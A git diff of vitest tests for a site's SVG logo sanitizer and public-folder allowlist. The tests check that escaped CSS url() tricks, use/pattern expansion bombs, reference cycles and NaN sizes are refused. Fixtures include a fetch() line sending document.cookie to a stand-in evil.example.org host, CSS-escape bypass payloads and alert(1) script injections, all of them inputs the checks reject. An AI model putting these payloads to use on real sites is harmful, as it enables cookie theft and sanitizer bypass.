@@ -3,13 +3,14 @@
  * checked (the sanitized form), namespaces are resolved, and the share-image renderer loads
  * nothing but the SVG it is given and the bundled fonts.
  */
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { logoProblems } from '../../src/validation/logo-safety.ts';
 import { sanitizeSvg } from '../../src/validation/svg-sanitize.ts';
 import { formatProblem, validateContent } from '../../src/validation/index.ts';
 import { externalReference, renderPng } from '../../src/og/render-png.ts';
+import { svgSize } from '../../src/og/svg.ts';
 import { makeTree } from '../helpers/validation-tree.ts';
 
 const SVG = 'http://www.w3.org/2000/svg';
@@ -95,6 +96,28 @@ describe('logos: namespaces resolved, allowlist kept, served as checked', () => 
       `<?xml-stylesheet href="https://evil.example.org/x.xsl"?>${clean}`,
       '<?xml-stylesheet?>',
     ],
+    // Presentation attributes are CSS to a browser: escapes, comments and other functions.
+    [
+      'a CSS escape spelling url(',
+      logo('<circle r="1" fill="\\75 rl(https://evil.example.org/x)"/>'),
+      'fill= on <circle>: "\\\\75 rl(https://evil.example.org/x)" holds a backslash',
+    ],
+    [
+      'a six-digit CSS escape in a filter',
+      logo('<g filter="\\000075rl(https://evil.example.org/f)"/>'),
+      'filter= on <g>',
+    ],
+    ['an escaped letter in the middle', logo('<g mask="u\\rl(https://evil.example.org/m)"/>'), 'mask= on <g>'],
+    [
+      'a backslash written as an XML entity',
+      logo('<circle r="1" fill="&#x5c;75 rl(https://evil.example.org/x)"/>'),
+      'holds a backslash',
+    ],
+    ['URL( in capitals', logo('<circle r="1" fill="URL(https://evil.example.org/x)"/>'), 'fill= on <circle>'],
+    ['uRl( with quotes and spaces', logo(`<circle r="1" fill="uRl( 'https://evil.example.org/x' )"/>`), 'fill='],
+    ['a CSS comment', logo('<circle r="1" fill="url/**/(https://evil.example.org/x)"/>'), 'holds a CSS comment'],
+    ['image-set()', logo('<circle r="1" fill="image-set(https://evil.example.org/x 1x)"/>'), 'calls image-set()'],
+    ['src()', logo('<circle r="1" clip-path="src(https://evil.example.org/x)"/>'), 'calls src()'],
   ])('%s is removed, and validate names it', (_what, text, removed) => {
     const result = sanitizeSvg(text);
     expect(result.fatal).toBeUndefined();
@@ -135,6 +158,51 @@ describe('logos: namespaces resolved, allowlist kept, served as checked', () => 
     expect(problems).toHaveLength(1);
     expect(problems[0].rule).toBe('logo:document');
     expect(problems[0].message).toContain(says);
+  });
+
+  it.each([
+    [
+      '10^5 uses in five levels of ten',
+      `<defs><g id="a0"><rect width="1" height="1"/></g>${[1, 2, 3, 4, 5]
+        .map((i) => `<g id="a${i}">${`<use href="#a${i - 1}"/>`.repeat(10)}</g>`)
+        .join('')}</defs><use href="#a5"/>`,
+      'expands to more than 5000 elements',
+    ],
+    [
+      'patterns filling with patterns',
+      `<defs><pattern id="p0" width="1" height="1"><rect width="1" height="1"/></pattern>${[1, 2, 3, 4, 5]
+        .map(
+          (i) =>
+            `<pattern id="p${i}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${i - 1})"/>`.repeat(10)}</pattern>`,
+        )
+        .join('')}</defs><rect width="10" height="10" fill="url(#p5)"/>`,
+      'expands to more than 5000 elements',
+    ],
+    ['a use inside what it uses', '<g id="loop"><use href="#loop"/></g>', 'a reference cycle'],
+    ['two uses of each other', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', 'a reference cycle'],
+  ])('%s: refused as a whole before any renderer expands it', (_what, inner, says) => {
+    const problems = logoProblems(logo(inner));
+    expect(problems).toHaveLength(1);
+    expect(problems[0].rule).toBe('logo:document');
+    expect(problems[0].message).toContain(says);
+  });
+
+  it('a thousand uses of one shape are fine', () => {
+    const text = logo(`<defs><path id="p" d="M0 0h1v1z"/></defs>${'<use href="#p"/>'.repeat(1000)}`);
+    expect(sanitizeSvg(text)).toEqual({ output: text, removed: [] });
+  });
+
+  it.each([
+    ['a width of 1e400', `<svg xmlns="${SVG}" width="1e400" height="10"><rect width="1" height="1"/></svg>`],
+    ['a viewBox of 1e400', `<svg xmlns="${SVG}" viewBox="0 0 1e400 10"><rect width="1" height="1"/></svg>`],
+    ['a viewBox with NaN', `<svg xmlns="${SVG}" viewBox="0 0 NaN 10"><rect width="1" height="1"/></svg>`],
+    ['Infinity', `<svg xmlns="${SVG}" width="Infinity" height="Infinity"><rect width="1" height="1"/></svg>`],
+    ['a size past the limit', `<svg xmlns="${SVG}" width="1e9" height="1"><rect width="1" height="1"/></svg>`],
+  ])('%s: no usable size, refused (it reached the page as width="NaN")', (_what, text) => {
+    expect(() => svgSize(text)).toThrow(/finite, positive and at most/);
+    expect(logoProblems(text)).toEqual([
+      expect.objectContaining({ rule: 'logo:document', message: expect.stringContaining('finite, positive') }),
+    ]);
   });
 
   it('a clean logo, gradients, masks, filters and local references pass unchanged', () => {
@@ -216,9 +284,43 @@ describe('public/: only an allowlist of files, every SVG checked', () => {
   );
 
   it('the allowed files pass', () => {
-    expect(publicProblems({ 'logos/gamma.svg': clean, 'favicon.svg': clean, '.nojekyll': '', 'theme.js': '' })).toEqual(
-      [],
-    );
+    expect(publicProblems({ 'logos/gamma.svg': clean, 'favicon.svg': clean, '.nojekyll': '' })).toEqual([]);
+  });
+
+  it.each([
+    ['theme.js', ''],
+    ['theme.js', '(function(){})();\nfetch("https://evil.example.org/?" + document.cookie);'],
+    ['app.mjs', 'export {}'],
+    ['sw.js', 'self.addEventListener("fetch", () => {})'],
+    ['logos/x.js', ''],
+    ['index.html', '<script>alert(1)</script>'],
+    ['page.xhtml', ''],
+    ['feed.xml', ''],
+    ['run.wasm', ''],
+  ])('no file a browser runs: public/%s is refused, whatever it holds', (rel, text) => {
+    const problems = publicProblems({ [rel]: text });
+    expect(
+      problems.filter((p) => p.startsWith(`public/${rel}:1: file:unexpected: is a file a browser runs`)),
+    ).toHaveLength(1);
+  });
+
+  it('.nojekyll must be empty', () => {
+    expect(publicProblems({ '.nojekyll': '<script>alert(1)</script>' })).toEqual([
+      'public/.nojekyll:1: file:unexpected: is not empty (expected an empty file: it only tells GitHub Pages not to run Jekyll)',
+    ]);
+  });
+
+  it('the theme script is generated from src/, byte for byte, and public/ has none', () => {
+    const root = path.join(import.meta.dirname, '../..');
+    const route = readFileSync(path.join(root, 'src/pages/theme.js.ts'), 'utf8');
+    expect(route).toContain("import theme from '../client/theme.js?raw';");
+    expect(route).toMatch(/new Response\(theme, /);
+    expect(existsSync(path.join(root, 'public/theme.js'))).toBe(false);
+    expect(
+      readdirSync(path.join(root, 'public'), { recursive: true }).filter(
+        (f) => !String(f).endsWith('.svg') && f !== 'logos',
+      ),
+    ).toEqual(['.nojekyll']);
   });
 });
 
